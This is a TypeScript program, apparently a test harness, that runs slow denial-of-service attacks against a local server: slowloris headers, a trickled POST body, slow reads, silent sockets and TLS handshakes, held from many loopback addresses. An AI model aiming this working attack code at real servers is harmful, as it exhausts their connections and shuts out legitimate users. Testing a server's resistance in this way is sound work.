// Clients that hold connections, each in its way, from many addresses: a program of its own, so that it
// shares no event loop with whoever measures. Run as `node slow-attacker.ts PORT KIND CONNECTIONS`; each
// connection that is ended is opened again. Ends when its input does, and says what became of them.

import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { connect as connectTls } from "node:tls";

const [portText = "", kind = "", connectionsText = ""] = process.argv.slice(2);
const port = Number(portText);
const connections = Number(connectionsText);
/** Connections of one address. */
const EACH = 20;
/** Between two: 300 in a second, which is no flood. */
const OPEN_EACH_MS = 1000 / 300;
const TRICKLE_MS = 2000;
/** After a connection was refused, or lost. */
const AGAIN_MS = 5000;

const totals = { opened: 0, lost: 0, open: 0, seconds: 0 };
const addressOf = (number: number): string => {
  const client = Math.floor(number / EACH);
  return `127.${48 + (client >> 14)}.${(client >> 6) & 255}.${1 + (client & 63)}`;
};

type Attack = {
  /** What goes out at once. */
  readonly first: string;
  /** What follows, again and again. */
  readonly trickle: string;
  readonly reads: boolean;
};

const attacks: Readonly<Record<string, Attack>> = {
  slowloris: { first: "GET / HTTP/1.1\r\nHost: a.example\r\nX-Slow: ", trickle: "x", reads: true },
  "slow-body": {
    first:
      "POST /api/orders HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{",
    trickle: " ",
    reads: true,
  },
  "slow-read": {
    first: "GET /large HTTP/1.1\r\nHost: a.example\r\n\r\n".repeat(100),
    trickle: "",
    reads: false,
  },
  silent: { first: "", trickle: "", reads: true },
  // The beginning of a ClientHello.
  handshakes: { first: "\x16\x03\x01\x02\x00\x01\x00", trickle: "", reads: true },
};

const sockets = new Set<Socket>();

function open(number: number): void {
  totals.opened++;
  const socket = kind === "handshakes" && number % 2 === 0 ? shakeHands(number) : hold(number);
  sockets.add(socket);
  socket.on("error", () => {
    // `close` follows.
  });
  socket.on("close", () => {
    sockets.delete(socket);
    totals.lost++;
    setTimeout(() => open(number), AGAIN_MS);
  });
}

function hold(number: number): Socket {
  const attack = attacks[kind];
  if (attack === undefined) throw new Error(`no attack is called ${kind}`);
  const socket = connect({ port, host: "127.0.0.1", localAddress: addressOf(number), noDelay: true });
  if (attack.first !== "") socket.write(attack.first, "latin1");
  if (attack.reads) socket.resume();
  else socket.pause();
  return socket;
}

/** A whole handshake, which is dear for a server, and its end. */
function shakeHands(number: number): Socket {
  const at = { port, host: "127.0.0.1", localAddress: addressOf(number) };
  const socket = connectTls({ ...at, rejectUnauthorized: false, servername: "shop.example.test" }, () =>
    socket.destroy(),
  );
  return socket;
}

async function run(): Promise<void> {
  // One by one: in step, they would all be served at the cost of one.
  for (let number = 0; number < connections; number++) {
    const earlyMs = startedMs + number * OPEN_EACH_MS - performance.now();
    if (earlyMs > 0) await sleep(earlyMs);
    open(number);
  }
}

const startedMs = performance.now();
const trickle = attacks[kind]?.trickle ?? "";
if (trickle !== "") {
  setInterval(() => {
    for (const socket of sockets) socket.write(trickle);
  }, TRICKLE_MS);
}
process.stdin.resume();
process.stdin.on("end", () => {
  totals.open = sockets.size;
  totals.seconds = (performance.now() - startedMs) / 1000;
  console.log(JSON.stringify(totals));
  process.exit(0);
});
await run();
